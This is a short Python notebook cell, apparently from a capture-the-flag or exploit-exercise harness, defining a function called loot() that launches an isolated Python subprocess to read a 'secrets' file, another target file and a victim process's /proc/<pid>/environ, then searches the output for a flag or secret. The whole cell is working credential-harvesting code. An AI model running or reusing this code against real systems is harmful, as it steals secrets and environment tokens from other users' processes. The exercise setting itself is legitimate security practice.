# %%
from kit import *

# %%
import subprocess

PROGRAM = """
import pathlib, sys
for name in sys.argv[1:]:
    try:
        sys.stdout.buffer.write(pathlib.Path(name).read_bytes())
    except OSError:
        pass
"""


def loot():
    names = [WORLD["secrets"], WORLD["other"], f"/proc/{WORLD['victim']}/environ"]
    try:
        done = subprocess.run([sys.executable, "-I", "-S", "-c", PROGRAM, *names], capture_output=True)
    except OSError:
        return None
    return search(done.stdout)
